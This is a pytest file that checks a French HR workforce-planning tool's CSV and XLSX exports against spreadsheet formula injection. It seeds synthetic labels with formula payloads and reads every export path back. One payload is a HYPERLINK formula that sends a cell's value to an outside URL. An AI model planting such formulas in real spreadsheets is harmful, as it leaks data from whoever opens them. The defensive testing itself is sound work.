"""Formula injection (issue 11, item 4): no file the project writes holds a live formula.

A direction or métier label read from an HR extract that starts with ``=``, ``+``, ``-`` or ``@`` must reach
every CSV and XLSX as inert text (a ``'`` in front, XLSX string type). The labels are put straight into the
synthetic frames and database rows (the import refuses them), then every export path is opened and read back.
A guard fails when a module writes a spreadsheet file without going through ``workforce.export`` (whose low-level
writers live in ``workforce.export_files``).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import math
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

import workforce
from workforce import db
from workforce import export as X
from workforce.cli import app

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://x?leak="&B2,"DRH")'
LABELS = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1)")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PREFIXES = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "=", "+", "-", "@")  # for the other labels


# ---------------------------------------------------------------------------------------------- the sanitiser

@pytest.mark.parametrize("first", TRIGGERS)
def test_each_trigger_is_neutralised(first):
    text = f"{first}1+1"
    assert X.neutralise(text) == "'" + text
    assert X.neutralise(X.neutralise(text)) == "'" + text  # idempotent: a quoted text starts with '


@pytest.mark.parametrize("value", [-3.5, 3, -2, 0.0, np.float64(-3.5), np.int64(-7), True, None, math.nan,
                                   np.nan, pd.NA, pd.NaT, pd.Timestamp("2025-01-01")])
def test_non_text_values_are_untouched(value):
    assert X.neutralise(value) is value


@pytest.mark.parametrize("text", ["", "DRH", "Agent d'accueil", "'=déjà neutralisé", " =1", "1-2", "|cmd", "%0A"])
def test_safe_texts_are_untouched(text):
    assert X.neutralise(text) == text


def test_frame_keeps_numbers_and_does_not_mutate_its_input():
    frame = pd.DataFrame({"Direction": [HYPERLINK, "DRH", None], "Écart (ETP)": [-3.5, 2.0, np.nan],
                          "n": pd.array([-1, 2, None], dtype="Int64"),
                          "Classe": pd.Categorical(["-2+3", "stable", "stable"]), "=x": ["a", "b", "c"]})
    out = X.neutralise_frame(frame)
    assert frame.loc[0, "Direction"] == HYPERLINK and "=x" in frame.columns  # input unchanged
    assert out["Direction"].tolist()[:2] == ["'" + HYPERLINK, "DRH"] and pd.isna(out["Direction"].iloc[2])
    assert out["Écart (ETP)"].dtype == float and out["Écart (ETP)"].iloc[0] == -3.5
    assert out["n"].dtype == "Int64" and out["n"].iloc[0] == -1
    assert out["Classe"].tolist() == ["'-2+3", "stable", "stable"]
    assert list(out.columns) == ["Direction", "Écart (ETP)", "n", "Classe", "'=x"]


def test_sheet_titles():
    assert X.sheet_title("=HYPERLINK(x)") == "_=HYPERLINK(x)"
    assert X.sheet_title("Écarts [2028]: a/b") == "Écarts _2028__ a_b"
    assert X.sheet_title("'quoted'") == "quoted"
    assert X.sheet_title("x" * 40, {"x" * 31}) == "x" * 29 + "_2"


def test_xlsx_cells_are_strings_never_formulas():
    frame = pd.DataFrame({"Direction": [*LABELS, "#N/A"], "Écart": [-3.5, 1.0, -2.0, 0.0, np.nan],
                          "Date": [pd.Timestamp("2025-01-01"), pd.NaT, None, None, None]})
    book = load_workbook(io.BytesIO(X.xlsx_bytes({"=feuille": frame, HYPERLINK: frame})))
    assert book.sheetnames == ["_=feuille", '_=HYPERLINK("http___x_leak="&B2']  # 31 characters
    ws = book.worksheets[0]
    rows = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == ["'" + v for v in LABELS] + ["#N/A"]
    assert {r[0].data_type for r in rows} == {"s"}  # « #N/A » too: a text, not an error value
    assert [r[1].value for r in rows[:4]] == [-3.5, 1, -2, 0] and rows[0][1].data_type == "n"
    assert_no_formula_xlsx(book)


def test_csv_cells_and_headers_are_neutralised(tmp_path):
    frame = pd.DataFrame({"@Direction": list(LABELS), "Écart": [-3.5, 1.0, -2.0, 0.25]})
    X.write_csv(frame, tmp_path / "x.csv")
    rows = read_csv_cells(tmp_path / "x.csv", ";")
    assert rows[0] == ["'@Direction", "Écart"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in LABELS] and rows[1][1] == "-3,5"
    assert_no_formula_csv(tmp_path / "x.csv", ";")
    data = X.csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf") and list(csv.reader(io.StringIO(data.decode("utf-8-sig")),
                                                                  delimiter=";")) == rows


# ---------------------------------------------------------------------------------------------- checks

def read_csv_cells(path: Path, sep: str) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=sep))


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_no_formula_csv(path: Path, sep: str) -> list[str]:
    """Every cell that starts with a trigger is a number (« -3,5 »); returns the cells, for what reached it."""
    cells = [c for row in read_csv_cells(path, sep) for c in row]
    bad = [c for c in cells if c[:1] in TRIGGERS and not _is_number(c)]
    assert not bad, f"{path.name}: cells that a spreadsheet would run: {bad[:5]}"
    return cells


def assert_no_formula_xlsx(book) -> list[str]:
    """No formula cell, no sheet name or text cell starting with a trigger; returns the text cells."""
    texts = []
    for ws in book.worksheets:
        assert ws.title[:1] not in TRIGGERS, ws.title
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: formula {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in TRIGGERS, f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    return texts


def _load(source) -> object:
    return load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)


def reached(cells, *labels) -> bool:
    """At least one injected label reached the file, neutralised (else the checks above prove nothing)."""
    return any(("'" + label) in cells for label in labels)


# ---------------------------------------------------------------------------------------------- poisoned data

def _poisoned_names(codes) -> dict:
    """The four labels of the issue for the first four codes, a trigger in front of the others."""
    return {code: LABELS[i] if i < len(LABELS) else f"{PREFIXES[i % len(PREFIXES)]}{code}"
            for i, code in enumerate(codes)}


@pytest.fixture(scope="module")
def poisoned():
    """A 400-agent synthetic département whose directions and métier labels are all formula-like."""
    from workforce.referential import load_builtin
    from workforce.synth import SynthParams, generate

    sd = generate(SynthParams(n_agents=400, years=3, seed=11))
    last = sd.snapshots[sd.snapshots["extract_date"] == sd.snapshots["extract_date"].max()]
    directions = _poisoned_names(last["direction"].value_counts().index)
    ref = load_builtin()
    metiers = _poisoned_names(last["metier_code"].value_counts().index.tolist()
                              + sorted(set(ref.metiers["code"]) - set(last["metier_code"])))
    snaps = sd.snapshots.assign(direction=sd.snapshots["direction"].map(directions),
                                metier_label=sd.snapshots["metier_code"].map(metiers))
    moves = sd.movements.assign(from_direction=sd.movements["from_direction"].map(directions),
                                to_direction=sd.movements["to_direction"].map(directions))
    ref = dataclasses.replace(
        ref, directions=ref.directions.assign(code=ref.directions["code"].map(directions).fillna(ref.directions["code"])),
        metiers=ref.metiers.assign(label=ref.metiers["code"].map(metiers),
                                   direction=ref.metiers["direction"].map(directions).fillna(ref.metiers["direction"])),
        skills=ref.skills.assign(label="@" + ref.skills["label"]))
    return dataclasses.replace(sd, snapshots=snaps, movements=moves), ref, directions, metiers


@pytest.fixture(scope="module")
def analysis(poisoned):
    from workforce import projection as PJ
    from workforce.scenario import Scenario
    from workforce.skills import TransformationParams, analyse, inputs_from_synth

    sd, ref, _, _ = poisoned
    s = sd.snapshots
    base = s[s["extract_date"] == s["extract_date"].max()].reset_index(drop=True)
    table = PJ.run(PJ.prepare(base, PJ.Models(), horizon=3), Scenario(horizon=3)).table()
    return analyse(inputs_from_synth(sd, ref=ref), table, TransformationParams(horizon=3))


@pytest.fixture(scope="module")
def db_url(poisoned, tmp_path_factory):
    """The poisoned département in a SQLite file: frames stored as they are, labels set in the rows."""
    from workforce.synth import store

    sd, ref, directions, metiers = poisoned
    url = f"sqlite:///{tmp_path_factory.mktemp('poisoned') / 'workforce.db'}"
    engine = db.make_engine(url)
    store(sd, engine)
    with db.session_scope(engine) as session:
        for code, label in metiers.items():
            session.execute(update(db.Metier).where(db.Metier.code == code).values(label=label))
        for code, label in directions.items():
            session.execute(update(db.Metier).where(db.Metier.direction == code).values(direction=label))
        session.execute(update(db.Skill).values(label="@" + db.Skill.label))
    engine.dispose()
    return url


@pytest.fixture
def cli_db(db_url, monkeypatch):
    monkeypatch.setenv("WORKFORCE_DB_URL", db_url)
    monkeypatch.setenv("COLUMNS", "200")
    return db_url


def _check_written(paths, sep: str = ";") -> list[str]:
    cells = []
    for path in map(Path, paths):
        if path.suffix == ".xlsx":
            cells += assert_no_formula_xlsx(_load(path))
        elif path.suffix == ".csv":
            cells += assert_no_formula_csv(path, sep)
    return cells


# ---------------------------------------------------------------------------------------------- every path

@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_gaps_and_passerelles_exports(analysis, poisoned, fmt, tmp_path):
    _, _, directions, metiers = poisoned
    meta = X.ExportMeta(scenario=HYPERLINK, extract_date="2025-12-31")  # the readme sheet too
    from workforce.export_skills import GapFilters, export_gaps, export_plan

    gaps = export_gaps(analysis, tmp_path / f"ecarts.{fmt}", fmt, meta=meta)
    cells = _check_written(gaps.paths)
    assert reached(cells, *directions.values()) and reached(cells, *metiers.values())
    assert fmt == "csv" or "'" + HYPERLINK in cells  # scenario on the « Lisez-moi » sheet
    plan = export_plan(analysis, tmp_path / "plan.xlsx", filters=GapFilters(year=int(analysis.years[-1])), meta=meta,
                       exact_skills=True)
    assert "'" + HYPERLINK in _check_written(plan.paths)  # every sheet of the plan, its readme included
    pas = X.export_passerelles(analysis, tmp_path / f"passerelles.{fmt}", fmt, meta=meta)
    cells = _check_written(pas.paths)
    assert reached(cells, *metiers.values()) and reached(cells, *directions.values())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cli_export_gaps_and_passerelles(cli_db, poisoned, fmt, tmp_path):
    _, _, directions, metiers = poisoned
    for command in ("gaps", "passerelles"):
        out = tmp_path / f"{command}.{fmt}"
        res = runner.invoke(app, ["export", command, "--format", fmt, "--out", str(out), "--horizon", "3"])
        assert res.exit_code == 0, res.output
        cells = _check_written(out.parent.glob(f"{command}*.{fmt}"))
        assert reached(cells, *metiers.values()) and reached(cells, *directions.values())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cli_forecast_retirements_and_aod(cli_db, poisoned, fmt, tmp_path, monkeypatch):
    directions = poisoned[2]
    own = tmp_path / "trained.db"  # the forecast needs the registry's models: trained on a copy of the database
    shutil.copyfile(cli_db.removeprefix("sqlite:///"), own)
    monkeypatch.setenv("WORKFORCE_DB_URL", f"sqlite:///{own}")
    trained = runner.invoke(app, ["train", "--only", "retirement,exits"])
    assert trained.exit_code == 0, trained.output
    for args in (["retirements", "--mc", "20"], ["aod"]):
        out = tmp_path / f"{args[0]}.{fmt}"
        res = runner.invoke(app, ["forecast", *args, "--horizon", "2", "--by", "direction", "--out", str(out)])
        assert res.exit_code == 0, res.output
        assert reached(_check_written([out], ","), *directions.values())
    out = tmp_path / f"nominatif.{fmt}"
    res = runner.invoke(app, ["forecast", "aod", "--nominatif", "--horizon", "2", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert reached(_check_written([out], ","), *directions.values())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cli_project(cli_db, poisoned, fmt, tmp_path):
    out = tmp_path / f"projection.{fmt}"
    res = runner.invoke(app, ["project", "--by", "direction", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert reached(_check_written([out], ","), *poisoned[2].values())
    if fmt == "csv":  # the provenance beside it stays exact JSON
        assert (tmp_path / "projection.provenance.json").read_text(encoding="utf-8").startswith("{")


def test_app_downloads(db_url, poisoned):
    """The bytes of the scenarios page's button (and the page helper's CSV) come from the export module."""
    from workforce import projection as PJ
    from workforce.scenario import Scenario
    from workforce.export import projection_published
    from workforce.ui import projections as UP

    engine = db.make_engine(db_url)
    result = PJ.run(PJ.prepare_from_db(engine, horizon=3), Scenario(horizon=3))
    engine.dispose()
    cells = assert_no_formula_xlsx(_load(UP.xlsx_bytes(result, by="direction")))
    assert reached(cells, *poisoned[2].values())
    text = UP.csv_bytes(projection_published(result, "direction")).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert not [c for c in cells if c[:1] in TRIGGERS and not _is_number(c)]
    assert "'" + HYPERLINK in cells


def test_cli_match_titles(cli_db, tmp_path):
    from workforce.referential import find_rome_dir

    from tests.skills.romefiles import cut_release

    rome = find_rome_dir()
    if rome is None:
        pytest.skip("no ROME 4.0 release: set WORKFORCE_ROME_DIR or unpack it in ../shared/data/rome")
    release = cut_release(rome, tmp_path / "rome")
    titles = tmp_path / "intitules.txt"
    titles.write_text("\n".join([*LABELS, "=Assistante sociale"]) + "\n", encoding="utf-8")
    out = tmp_path / "suggestions.csv"
    res = runner.invoke(app, ["referential", "match-titles", "--fichier", str(titles), "--rome", str(release),
                              "--sortie", str(out)])
    assert res.exit_code == 0, res.output
    assert reached(assert_no_formula_csv(out, ";"), *LABELS)


# ---------------------------------------------------------------------------------------------- the guard

WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|DictWriter\(|Workbook\(|xlsxwriter")
EXPORT_MODULES = {"workforce/export.py", "workforce/export_files.py"}  # the entry point and its low-level writers
ALLOWED = {
    # writes a synthetic HR *extract* (the tool's input, read back by `workforce import`), not a file for people;
    # its text must stay byte-exact for the import round trip
    "workforce/ingest/sample.py",
}


def test_no_writer_bypasses_the_export_module():
    root = Path(workforce.__file__).parent
    found = []
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root.parent).as_posix()
        if rel in EXPORT_MODULES or rel in ALLOWED:
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line.split("#", 1)[0]):
                found.append(f"{rel}:{n}: {line.strip()}")
    assert not found, ("CSV/XLSX written outside workforce/export.py (use its write_csv / write_xlsx, which "
                       "neutralise formulas):\n" + "\n".join(found))
